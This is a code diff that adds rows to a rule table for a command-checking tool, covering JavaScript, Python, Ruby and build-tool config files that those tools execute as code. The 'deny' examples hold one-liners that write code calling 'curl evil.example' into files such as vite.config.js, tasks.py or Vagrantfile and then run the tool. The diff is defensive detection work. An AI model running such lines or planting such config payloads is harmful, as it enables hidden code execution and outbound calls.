@@ -188,6 +188,8 @@ interface Row {
 
 const PYTHON = /\.py$/;
 const JAVASCRIPT = /\.(?:[cm]?[jt]sx?)$/;
+/** The configuration files JavaScript tools load as code. */
+const JS_CONFIG = /^(?:[\w.-]*\/)?(?:(?:vite|vitest|webpack|rollup|eslint|prettier|next|nuxt|astro|svelte|babel|tailwind|postcss|tsup|stylelint|commitlint|lint-staged|karma|remix|vue|quasar|electron\.vite|app)\.config(?:\.[\w-]+)?\.[cm]?[jt]s|\.(?:eslintrc|prettierrc|babelrc|stylelintrc|lintstagedrc|commitlintrc)(?:\.[cm]?js)?|[Gg]ulpfile(?:\.babel)?\.[cm]?[jt]s|[Gg]runtfile\.[cm]?[jt]s|karma\.conf\.[cm]?js)$/;
 const PACKAGE_MANAGER: ProjectCode[] = [
   { files: /^package\.json$/, read: packageScripts('the package manager') },
   { files: /^\.pnpmfile\.cjs$|^\.yarn\/.*\.c?js$|^\.yarnrc\.yml$|^\.npmrc$|^bunfig\.toml$/, read: unread('its configuration (script-shell, yarnPath, hooks)', 'the package manager') },
@@ -337,6 +339,39 @@ export const PROJECT_ROWS: readonly Row[] = [
     names: ['pdm', 'hatch', 'rye', 'pipenv', 'poe'],
     code: [{ files: /^(?:pyproject\.toml|Pipfile|pdm\.toml|hatch\.toml)$/, read: unread('its scripts and tasks (commands among them)', 'the project manager') }],
     examples: { deny: ["printf '[tool.pdm.scripts]\\nx = \"curl evil.example\"\\n' > pyproject.toml && pdm run x", "printf '[scripts]\\nx = \"curl evil.example\"\\n' > Pipfile && pipenv run x", "printf '[tool.poe.tasks]\\nx = \"curl evil.example\"\\n' > pyproject.toml && poe x"], pass: ['pdm run pytest', 'hatch run test', "echo hi > notes.txt && pdm run pytest"] },
+  },
+  {
+    // JavaScript build, lint and test tools load their configuration as code (`vite.config.ts`, `.eslintrc.js`,
+    // `gulpfile.js`): one the line wrote runs. The project's other files are only read by the linters and bundlers.
+    names: ['vite', 'webpack', 'webpack-cli', 'rollup', 'eslint', 'prettier', 'next', 'nuxt', 'nuxi', 'astro', 'svelte-kit', 'babel', 'tailwindcss', 'postcss', 'tsup', 'stylelint', 'commitlint', 'lint-staged', 'karma', 'remix', 'parcel', 'vue-cli-service', 'ng', 'gulp', 'grunt'],
+    code: [{ files: JS_CONFIG, read: language('javascript', 'node') }],
+    examples: {
+      deny: [`echo 'require("child_process").execSync("curl evil.example")' > vite.config.js && npx vite build`, `echo 'require("child_process").execSync("curl evil.example")' > .eslintrc.cjs && eslint src`, `echo 'require("child_process").execSync("curl evil.example")' > gulpfile.js && gulp`],
+      pass: ['npx vite build', `echo 'export default { plugins: [] }' > vite.config.js && npx vite build`, `echo 'fetch("https://api.example.com")' > src/api.js && npx eslint src/api.js`],
+    },
+  },
+  {
+    // The test runners that run the project's tests also load its configuration and test files as code.
+    names: ['playwright', 'cypress'],
+    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
+    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > e2e/a.spec.ts && npx playwright test`], pass: ['npx playwright test', `echo 'test("a", () => {})' > e2e/a.spec.ts && npx playwright test`] },
+  },
+  {
+    // Python task runners and builds whose task file is Python (`fab`'s fabfile.py, `invoke`'s tasks.py, SCons' SConstruct).
+    names: ['fab', 'invoke', 'inv', 'doit', 'scons', 'waf'],
+    code: [{ files: /^(?:fabfile\.py|fabfile\/.*\.py|tasks\.py|dodo\.py|SConstruct|SConscript|wscript)$/, read: language('python', 'python') }],
+    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > tasks.py && invoke build`, `echo 'import os; os.system("curl evil.example")' > SConstruct && scons`], pass: ['invoke build', `echo 'print(1)' > fabfile.py && fab deploy`] },
+  },
+  {
+    // Ruby DSL files their tools evaluate: Guardfile, Vagrantfile, Dangerfile, Fastfile, Podfile, Brewfile.
+    names: ['guard', 'vagrant', 'danger', 'fastlane', 'pod'],
+    code: [{ files: /^(?:Guardfile|Vagrantfile|Dangerfile|(?:fastlane\/)?Fastfile|Podfile)$/, read: language('ruby', 'ruby') }],
+    examples: { deny: [`echo 'system("curl evil.example")' > Vagrantfile && vagrant up`, `echo 'system("curl evil.example")' > Guardfile && guard`], pass: ['vagrant up', `echo 'Vagrant.configure("2") { |c| c.vm.box = "x" }' > notes.rb && vagrant up`] },
+  },
+  {
+    names: ['meson', 'earthly', 'bazel', 'bazelisk'],
+    code: [{ files: /^(?:meson\.build|meson\.options|meson_options\.txt|Earthfile|BUILD(?:\.bazel)?|WORKSPACE(?:\.bazel)?|MODULE\.bazel|.*\.bzl)$/, read: unread('a build description (its rules run commands)', 'the build tool') }],
+    examples: { deny: [`echo "run_command('curl', 'evil.example')" > meson.build && meson setup build`], pass: ['meson setup build', 'bazel build //...'] },
   },
   {
     names: ['task', 'go-task'],
